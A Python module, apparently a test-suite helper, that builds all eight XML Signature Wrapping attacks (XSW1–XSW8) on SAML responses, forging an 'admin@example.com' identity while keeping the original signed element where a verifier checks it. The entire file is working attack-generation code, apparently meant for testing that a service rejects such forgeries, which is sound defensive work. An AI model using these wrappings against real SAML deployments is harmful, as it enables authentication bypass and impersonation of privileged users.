"""Signature wrapping: the signed element stays in the document, and a forged one is put where it would be read.

Numbers as in "On Breaking SAML" (2012), figure 5 and table 1. The forged person is `admin@example.com`.
"""

import copy
from collections.abc import Callable, Mapping
from dataclasses import replace
from typing import Any

from lxml import etree

from support.saml import ASSERTION, PROTOCOL, Response

DS = "http://www.w3.org/2000/09/xmldsig#"


def _forged(element: Any) -> Any:
    evil = copy.deepcopy(element)
    for signature in list(evil.iter(f"{{{DS}}}Signature")):
        signature.getparent().remove(signature)
    for name in evil.iter(f"{{{ASSERTION}}}NameID"):
        name.text = "admin@example.com"
    evil.set("ID", "_evil")
    return evil


def _xsw1(root: Any) -> Any:
    """The signed response inside the signature of a forged one."""
    evil, signature = _forged(root), copy.deepcopy(root.find(f"{{{DS}}}Signature"))
    signature.append(_stripped(root))
    evil.append(signature)
    return evil


def _xsw2(root: Any) -> Any:
    """A forged response, its signature and the signed response side by side below it."""
    evil, signature = _forged(root), copy.deepcopy(root.find(f"{{{DS}}}Signature"))
    evil.append(_stripped(root))
    evil.append(signature)
    return evil


def _xsw3(root: Any) -> Any:
    """A forged assertion before the signed one."""
    assertion = root.find(f"{{{ASSERTION}}}Assertion")
    assertion.addprevious(_forged(assertion))
    return root


def _xsw4(root: Any) -> Any:
    """The signed assertion inside a forged one."""
    assertion = root.find(f"{{{ASSERTION}}}Assertion")
    evil = _forged(assertion)
    root.replace(assertion, evil)
    evil.append(assertion)
    return root


def _xsw5(root: Any) -> Any:
    """A forged assertion carries the signature of the signed one, which comes last."""
    assertion = root.find(f"{{{ASSERTION}}}Assertion")
    evil, signature = _forged(assertion), copy.deepcopy(assertion.find(f"{{{DS}}}Signature"))
    evil.append(signature)
    root.replace(assertion, evil)
    root.append(_stripped(assertion))
    return root


def _xsw6(root: Any) -> Any:
    """The signed assertion inside the signature that a forged one carries."""
    assertion = root.find(f"{{{ASSERTION}}}Assertion")
    evil, signature = _forged(assertion), copy.deepcopy(assertion.find(f"{{{DS}}}Signature"))
    signature.append(_stripped(assertion))
    evil.append(signature)
    root.replace(assertion, evil)
    return root


def _xsw7(root: Any) -> Any:
    """The forged assertion inside extensions, which take any XML."""
    assertion = root.find(f"{{{ASSERTION}}}Assertion")
    extensions = etree.SubElement(root, f"{{{PROTOCOL}}}Extensions")
    evil = _forged(assertion)
    evil.set("ID", assertion.get("ID"))
    extensions.append(evil)
    return root


def _xsw8(root: Any) -> Any:
    """The signed assertion inside an object of the signature that a forged one carries."""
    assertion = root.find(f"{{{ASSERTION}}}Assertion")
    evil, signature = _forged(assertion), copy.deepcopy(assertion.find(f"{{{DS}}}Signature"))
    etree.SubElement(signature, f"{{{DS}}}Object").append(_stripped(assertion))
    evil.append(signature)
    root.replace(assertion, evil)
    return root


def _stripped(element: Any) -> Any:
    """The element as it was before it was signed: that is what the enveloped signature's digest is of."""
    bare = copy.deepcopy(element)
    bare.remove(bare.find(f"{{{DS}}}Signature"))
    return bare


WRAPPINGS: Mapping[int, Callable[[Any], Any]] = dict(
    enumerate((_xsw1, _xsw2, _xsw3, _xsw4, _xsw5, _xsw6, _xsw7, _xsw8), start=1)
)
"""What wraps a document by the attack's number. The first two begin with a signed response, the others with a signed
assertion."""


def wrapped(response: Response, number: int) -> bytes:
    """The good response, wrapped."""
    signed = replace(response, sign="response" if number <= 2 else "assertion")
    text: bytes = etree.tostring(WRAPPINGS[number](etree.fromstring(signed.document())))
    return text
